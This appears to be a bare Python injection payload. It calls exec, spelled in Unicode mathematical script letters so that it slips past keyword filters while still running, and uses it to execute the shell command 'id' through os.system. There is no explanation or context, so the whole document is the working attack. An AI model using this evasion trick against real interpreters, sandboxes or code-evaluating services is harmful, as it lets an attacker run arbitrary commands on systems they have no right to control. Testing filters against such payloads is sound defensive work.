𝓮𝔁𝓮𝓬("import os; os.system('id')")
